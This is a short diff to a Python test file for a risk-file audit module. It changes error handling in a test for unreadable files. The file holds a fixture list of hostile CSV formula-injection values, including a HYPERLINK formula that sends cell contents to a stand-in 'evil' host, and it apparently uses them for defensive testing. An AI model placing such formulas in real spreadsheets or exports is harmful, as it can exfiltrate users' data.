@@ -7,8 +7,8 @@ import stat
 import numpy as np
 import pytest
 
+from error_assertions import raises
 from recveil.audit import Risk, read_risk, write_risk
-from recveil.errors import RecveilError
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "ann"]
 
@@ -57,5 +57,6 @@ def test_its_owner_alone_reads_it_whatever_stood_there(written):
 )
 def test_what_is_no_such_file_is_refused(tmp_path, content):
     (tmp_path / "risk.csv").write_bytes(content)
-    with pytest.raises(RecveilError, match=r"^risk\.csv: expected everybody's risk"):
+    with raises("input.damaged") as caught:
         read_risk(tmp_path / "risk.csv")
+    assert "risk.csv" in str(caught.value)
